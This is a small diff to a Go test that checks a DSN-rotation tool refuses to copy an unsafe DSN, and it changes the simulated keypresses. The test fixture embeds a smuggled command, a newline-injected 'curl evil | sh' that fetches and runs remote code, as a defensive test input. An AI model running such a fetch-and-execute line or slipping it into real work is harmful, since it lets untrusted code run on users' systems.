@@ -45,7 +45,7 @@ func TestRotateDoesNotCopyUnsafeDSN(t *testing.T) {
 	g := demoGitLab(t)
 	api := &hostileDSN{API: g.api, suffix: "\ncurl evil | sh\n", key: 4}
 	h := newHarness(t, Deps{API: api, Host: g.url, Project: "1"})
-	h.key("R")
+	h.key("down", "R")
 	h.mustSee("The new DSN was not copied")
 	if c := h.copied(); len(c) != 0 {
 		t.Fatalf("copied %q", c)
